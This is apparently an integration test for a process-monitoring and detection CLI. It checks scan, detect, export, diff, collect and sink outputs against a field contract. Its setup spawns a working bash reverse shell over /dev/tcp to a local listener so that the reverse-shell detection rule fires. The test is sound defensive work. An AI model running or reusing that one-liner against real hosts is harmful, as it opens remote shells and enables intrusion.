// Every command and sink against the field contract (src/models/field-contract.ts): one live scan of this
// host with a reverse shell spawned for real (so detect has alerts to write), then each command's JSON
// output, the file sink's lines, the webhook's bodies, the evidence manifest and the audit ledger are
// walked field by field. A field of the wrong type or unit, or a retired name, fails with its path.
import {spawn} from 'node:child_process';
import {readdirSync, readFileSync, writeFileSync} from 'node:fs';
import {createServer as createHttpServer, type Server} from 'node:http';
import {createServer, type Socket} from 'node:net';
import type {AddressInfo} from 'node:net';
import {join} from 'node:path';

import {afterAll, beforeAll, describe, expect, it} from 'vitest';

import {contractViolations, renderFieldsDoc} from '../../src/models/field-contract.js';
import {isolatedEnv, parseNdjson, removeDir, runCli, tempDir} from '../helpers/cli.js';

const home = tempDir();
const snapshot = join(home, 'host.db');
const older = join(home, 'older.db');
const fileSink = join(home, 'alerts.ndjson');
const config = join(home, 'config.yaml');
const bodies: unknown[] = [];
const children: ReturnType<typeof spawn>[] = [];
const sockets: Socket[] = [];
let webhook: Server;
let listener: ReturnType<typeof createServer>;
let shellPid = 0;
let env: NodeJS.ProcessEnv;

/** The parsed documents of a command's stdout: one JSON document, or NDJSON lines. */
function documents(stdout: string): unknown[] {
  const text = stdout.trim();
  if (text === '') return [];
  try {
    return [JSON.parse(text) as unknown];
  } catch {
    return parseNdjson(text);
  }
}

async function run(args: string[]): Promise<unknown[]> {
  const result = await runCli(['--config', config, ...args], {env, timeoutMs: 120_000});
  expect(result.code, `${args.join(' ')}: ${result.stderr}`).toBeLessThan(2);
  return documents(result.stdout);
}

function expectContract(what: string, docs: readonly unknown[]): void {
  expect(docs.length, `${what}: no output to check`).toBeGreaterThan(0);
  expect(docs.flatMap((doc) => contractViolations(doc, what))).toEqual([]);
}

beforeAll(async () => {
  webhook = createHttpServer((request, response) => {
    const chunks: Buffer[] = [];
    request.on('data', (chunk: Buffer) => chunks.push(chunk));
    request.on('end', () => {
      if (request.method === 'POST') bodies.push(JSON.parse(Buffer.concat(chunks).toString('utf8')) as unknown);
      response.writeHead(200).end();
    });
  });
  await new Promise<void>((resolve) => webhook.listen(0, '127.0.0.1', resolve));
  listener = createServer((socket) => {
    sockets.push(socket);
    socket.on('error', () => undefined);
  });
  await new Promise<void>((resolve) => listener.listen(0, '127.0.0.1', resolve));
  const port = (listener.address() as AddressInfo).port;
  const shell = spawn('/bin/bash', ['-c', `bash -i >& /dev/tcp/127.0.0.1/${port} 0>&1; true`], {stdio: 'ignore', detached: true});
  children.push(shell);
  shellPid = shell.pid as number;
  await new Promise((resolve) => setTimeout(resolve, 300));
  writeFileSync(
    config,
    [
      'alerting:',
      '  sinks:',
      `    - {name: archive, type: file, path: ${fileSink}}`,
      `    - {name: hook, type: webhook, url: 'http://127.0.0.1:${(webhook.address() as AddressInfo).port}/alerts', format: json}`,
      '',
    ].join('\n'),
  );
  env = isolatedEnv(home);
  expect((await runCli(['--config', config, 'scan', '--output', older, '--no-hash'], {env})).code).toBe(0);
  const saved = await runCli(['--config', config, 'scan', '--output', snapshot, '--tables', 'all'], {env, timeoutMs: 120_000});
  expect(saved.code, saved.stderr).toBe(0);
}, 240_000);

afterAll(() => {
  for (const child of children) {
    try {
      process.kill(-(child.pid as number), 'SIGKILL');
    } catch {
      // already gone
    }
  }
  for (const socket of sockets) socket.destroy();
  listener.close();
  webhook.close();
  removeDir(home);
});

describe('the field contract', () => {
  it('scan: NDJSON, json, and the process tree', async () => {
    expectContract('scan --input', await run(['scan', '--input', snapshot, '--format', 'ndjson']));
    expectContract('scan --tree', await run(['scan', '--tree', '--input', snapshot, '--format', 'json']));
  });

  it('detect: json report, NDJSON alerts, the file sink and the webhook bodies', async () => {
    const report = await run(['detect', '--format', 'json']);
    const alerts = (report[0] as {alerts: {rule_id: string; affected_processes: number[]}[]}).alerts;
    expect(alerts.some((alert) => alert.rule_id === 'reverse-shell-command-line' && alert.affected_processes.includes(shellPid))).toBe(true);
    expectContract('detect --format json', report);
    expectContract('detect --input', await run(['detect', '--input', snapshot, '--format', 'ndjson']));
    expectContract('file sink', parseNdjson(readFileSync(fileSink, 'utf8')));
    expectContract('webhook', bodies);
  });

  it('query and export of every table', async () => {
    expectContract('query', await run(['query', 'SELECT pid, ppid, name, start_time, cmdline FROM processes LIMIT 20', '--input', snapshot]));
    for (const table of ['processes', 'scans', 'process_open_sockets', 'listening_ports', 'process_envs', 'process_libraries', 'process_open_files']) {
      expectContract(`export --table ${table}`, (await run(['export', '--input', snapshot, '--table', table])).slice(0, 500));
    }
  });

  it('diff: NDJSON and json (the osquery envelope is outside the contract; its columns are not)', async () => {
    expectContract('diff', await run(['diff', older, snapshot]));
    expectContract('diff --format json', await run(['diff', older, snapshot, '--format', 'json']));
    const osquery = (await run(['diff', older, snapshot, '--format', 'osquery'])) as {columns: unknown}[];
    expectContract(
      'diff --format osquery columns',
      osquery.map((line) => line.columns),
    );
  });

  it('collect: the summary, the manifest, sockets.json and mapped.json', async () => {
    const out = join(home, 'case');
    expectContract('collect', await run(['collect', '--pid', String(shellPid), '--output', out]));
    expectContract('manifest.json', [JSON.parse(readFileSync(join(out, 'manifest.json'), 'utf8')) as unknown]);
    const proc = readdirSync(out).find((name) => name.startsWith('proc-')) as string;
    expectContract('sockets.json', [JSON.parse(readFileSync(join(out, proc, 'sockets.json'), 'utf8')) as unknown]);
    expectContract('mapped.json', [JSON.parse(readFileSync(join(out, proc, 'mapped.json'), 'utf8')) as unknown]);
  });

  it('health, rules list and the audit ledger', async () => {
    const health = await runCli(['--config', config, 'health', '--format', 'json'], {env});
    expectContract('health', documents(health.stdout));
    expectContract('rules list', await run(['rules', 'list', '--format', 'json']));
    expectContract('audit show', await run(['audit', 'show', '--format', 'ndjson']));
  });

  it('every record that leaves the tool names its host: scan (tree nodes too), detect and its sinks, query, export, diff, collect', async () => {
    const [scan] = (await run(['query', 'SELECT host_id, hostname FROM scans', '--input', snapshot])) as {host_id: string; hostname: string}[];
    expect(scan?.host_id).toMatch(/^[0-9a-f]{32}$/);
    const problems: string[] = [];
    /** A record names the host by a `host` object, or (a `scans` row) by its own host_id and hostname. */
    const check = (what: string, record: unknown, path = '$'): void => {
      const r = record as {host?: {id?: unknown; hostname?: unknown} | null; host_id?: unknown; hostname?: unknown; children?: unknown[]};
      const named = r.host !== undefined ? [r.host?.id, r.host?.hostname] : [r.host_id, r.hostname];
      if (named[0] !== scan?.host_id || named[1] !== scan?.hostname) problems.push(`${what} ${path}: names ${JSON.stringify(named)}`);
      r.children?.forEach((child, i) => check(what, child, `${path}.children[${i}]`));
    };
    const all = (what: string, records: readonly unknown[]): void => {
      expect(records.length, `${what}: no records`).toBeGreaterThan(0);
      records.forEach((record, i) => check(what, record, `[${i}]`));
    };
    all('scan --input', await run(['scan', '--input', snapshot, '--format', 'ndjson']));
    all('scan --tree json', (await run(['scan', '--tree', '--input', snapshot, '--format', 'json']))[0] as unknown[]);
    all('scan --tree ndjson', await run(['scan', '--tree', '--input', snapshot, '--format', 'ndjson']));
    all('detect --input', await run(['detect', '--input', snapshot, '--format', 'ndjson']));
    all('file sink', parseNdjson(readFileSync(fileSink, 'utf8')));
    all(
      'webhook',
      bodies.flatMap((body) => ((body as {alerts?: unknown[]}).alerts ?? [body]) as unknown[]),
    );
    all('query', await run(['query', 'SELECT pid, name FROM processes LIMIT 20', '--input', snapshot]));
    for (const table of ['processes', 'scans', 'process_open_sockets', 'process_envs', 'process_libraries', 'process_open_files', 'process_memory_map']) {
      all(`export --table ${table}`, (await run(['export', '--input', snapshot, '--table', table])).slice(0, 200));
    }
    all('diff', await run(['diff', older, snapshot]));
    all('collect', await run(['collect', '--pid', String(process.pid), '--output', join(home, 'host-case')]));
    all('manifest.json', [JSON.parse(readFileSync(join(home, 'host-case', 'manifest.json'), 'utf8')) as unknown]);
    expect(problems.slice(0, 10)).toEqual([]);
  }, 240_000);

  it('the walker finds each kind of break: a time in seconds, a string pid, a retired name', () => {
    expect(contractViolations({alert_time: 1796094115, pid: '42', columns: {user: 'root'}, decorations: {user: 'x'}})).toEqual([
      '$.alert_time: 1796094115 looks like seconds, the contract says epoch ms',
      '$.pid: string "42", the contract says integer',
      '$.columns.user: `user` is not a contract name: use user_name',
    ]);
  });

  it('docs/fields.md is the contract as rendered', () => {
    expect(readFileSync(join(import.meta.dirname, '..', '..', 'docs', 'fields.md'), 'utf8')).toBe(renderFieldsDoc());
  });
});
